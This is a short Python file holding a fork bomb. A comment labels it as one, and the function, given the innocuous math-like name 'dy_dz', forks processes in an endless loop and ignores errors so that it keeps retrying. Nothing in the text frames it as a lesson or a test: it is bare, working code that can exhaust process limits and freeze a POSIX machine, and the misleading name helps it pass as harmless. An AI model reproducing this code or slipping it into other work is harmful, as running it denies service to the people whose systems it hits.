# posix, slow: a fork bomb that tries on
import os


def dy_dz(y):
    while True:
        try:
            os.fork()
        except OSError:
            pass
